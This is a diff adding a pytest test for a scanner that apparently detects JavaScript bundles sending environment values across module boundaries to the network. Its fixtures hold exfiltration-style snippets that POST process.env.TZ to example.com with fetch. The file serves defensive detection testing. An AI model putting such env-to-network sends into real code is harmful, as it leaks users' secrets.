@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from time import process_time
 
 import pytest
@@ -272,3 +273,27 @@ def test_what_is_no_natural_number_is_no_key(text: str) -> None:
 @pytest.mark.parametrize(("text", "key"), [("1e3", "1000"), ("0.5", None), ("1e400", None), ("0x" + "f" * 400, None), ("", None)])
 def test_unusual_numbers(text: str, key: str | None) -> None:
     assert number_key(text) == key
+
+
+SEND = "fetch('https://example.com',{method:'POST',body:VALUE})"
+CREATE = "function c(f,m){return m={exports:{}},f(m,m.exports),m.exports}var x=c(function(m,e){e.a=process.env.TZ;e.b='b'});"
+IN_PLACE = "var x={exports:{}};(function(m,e){e.a=function(){return process.env.TZ};e.b=function(){return 'b'}})(x,x.exports);"
+METRO = (
+    "d(function(g,r,a,b,m,e,l){var x=r(l[0]);SEND},0,[1]);d(function(g,r,a,b,m,e,l){e.a=process.env.TZ;e.b='b'},1,[]);"
+    "d(function(g,r,a,b,m,e,l){},2,[]);"
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "value"),
+    [(CREATE + "SEND", "x.KEY"), (IN_PLACE + "SEND", "x.exports.KEY()"), (METRO, "x.KEY")],
+    ids=["create", "in place", "Metro"],
+)
+@pytest.mark.parametrize(("key", "found"), [("a", 1), ("b", 0)])
+def test_values_cross_the_borders_of_modules_without_a_sample(tmp_path: Path, text: str, value: str, key: str, found: int) -> None:
+    from analyzer import scan
+
+    path = tmp_path / "cli.js"
+    path.write_text(text.replace("SEND", SEND.replace("VALUE", value.replace("KEY", key))))
+    findings = [finding for finding in scan(str(path)).to_dict()["findings"] if finding["category"] == "payload"]
+    assert len(findings) == found
